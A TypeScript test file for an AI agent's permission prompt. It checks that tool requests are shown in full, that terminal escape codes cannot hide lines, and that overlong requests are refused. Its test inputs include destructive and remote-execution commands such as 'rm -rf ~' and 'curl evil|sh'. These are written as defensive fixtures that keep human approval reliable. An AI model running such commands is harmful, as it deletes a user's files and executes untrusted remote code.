import { expect, it } from 'vitest'
import { inProcessStore } from '../../../test/in-process-store.ts'
import type { PendingTool } from '../../harnesses/acp/agent-events.ts'
import { systemClock } from '../../lib/clock.ts'
import { formatQuestion, openPermissions } from './prompt-permissions.ts'

const tool = (asks: string): PendingTool => ({
  id: 'a',
  kind: 'execute',
  title: 'ls',
  status: 'pending',
  requestText: asks,
  paths: [],
  diffs: [],
  output: '',
  exitCode: null,
})

it('shows every line of a request, and no line can move the cursor', () => {
  expect(formatQuestion(tool('ls -la'), 80)).toBe('  ? execute: ls -la')
  expect(formatQuestion(tool('ls -la\nrm -rf ~\u001b[2K; curl evil|sh'), 80)).toBe(
    '  ? execute:\n    │ ls -la\n    │ rm -rf ~�[2K; curl evil|sh',
  )
})

it('puts a mark before every row of a request, however it is padded', () => {
  const padded = `ls${' '.repeat(78)}    allow it? [y/N] 好${'好'.repeat(80)}`
  const [first, ...rows] = formatQuestion(tool(padded), 80).split('\n')
  expect(first).toBe('  ? execute:')
  expect(rows.every((row) => row.startsWith('    │ ') && row.length <= 80)).toBe(true)
  expect(rows.map((row) => row.slice(6)).join('')).toBe(padded)
})

it('refuses a request that is too long to show in full, without a question', async () => {
  const store = inProcessStore(systemClock)
  const deps = {
    store,
    log: store.log,
    operator: 'local-user:ada',
    runId: 'run_one',
    sandboxId: 'sbx_one',
    harness: 'fixture',
    policyEnvelopeId: 'policy_default',
    command: 'craik prompt',
  }
  const until = systemClock.nowMs() + 60_000
  const permissions = await openPermissions({ clock: systemClock }, deps, 'ask', until)
  let requestCount = 0
  const yes = async () => ++requestCount > 0
  expect(await permissions.decide(tool(`ls\n${'\n'.repeat(300)}rm -rf ~`), yes)).toMatchObject({
    allowed: false,
    why: 'it is too long to show in full',
  })
  expect(requestCount).toBe(0)
  await permissions.decide(tool('ls'), yes)
  expect(requestCount).toBe(1)
})
